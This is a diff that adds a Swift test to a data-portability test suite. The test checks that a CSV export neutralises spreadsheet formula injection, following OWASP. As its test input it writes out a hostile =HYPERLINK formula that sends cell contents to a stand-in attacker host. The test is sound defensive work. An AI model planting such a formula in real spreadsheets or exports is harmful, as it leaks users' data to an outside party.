@@ -65,6 +65,30 @@ struct PortabilityRightTests {
         #expect(!csv.contains(SampleBusinessDatabase.email(11)))
     }
 
+    /// A value a spreadsheet would run as a formula is neutralised in the copy's CSV (OWASP).
+    @Test func aFormulaInTheDataIsNeutralisedInTheCSV() async throws {
+        let harness = try await harness(on: .sqlite, rights())
+        let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")"
+        let update = Process()
+        update.executableURL = URL(fileURLWithPath: "/usr/bin/env")
+        update.arguments = [
+            "sqlite3", harness.directory.file("business.sqlite"),
+            "UPDATE accounts SET display_name = '\(formula.replacingOccurrences(of: "'", with: "''"))' WHERE email = '\(SampleBusinessDatabase.email(10))'",
+        ]
+        try update.run()
+        update.waitUntilExit()
+        #expect(update.terminationStatus == 0)
+        let request = try await runStrong(harness, intake(["mode": "copy"]))
+        let archive = try #require(request.outcome?.references["archive"])
+        let csv = try unzipRead(archive, "business.accounts.csv")
+        #expect(
+            csv.contains(",user.account.nickname,display_name,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"open\"\")\"\r\n"),
+            "\(csv)")
+        #expect(!csv.contains(",=HYPERLINK"))
+        #expect(csv.contains("\"'\(SampleBusinessDatabase.phone(10))\""), "a leading + is neutralised too")
+        #expect(try unzipRead(archive, "data.json").contains("=HYPERLINK"), "the JSON keeps the value exactly")
+    }
+
     /// "… transfer your personal information to other entities designated by you … we will conduct necessary verification of your identity"
     @Test(arguments: LedgerDriver.allCases) func aTransferReachesTheAllowedRecipientAfterRetries(on driver: LedgerDriver) async throws {
         let server = try RecipientServer(failures: 1)
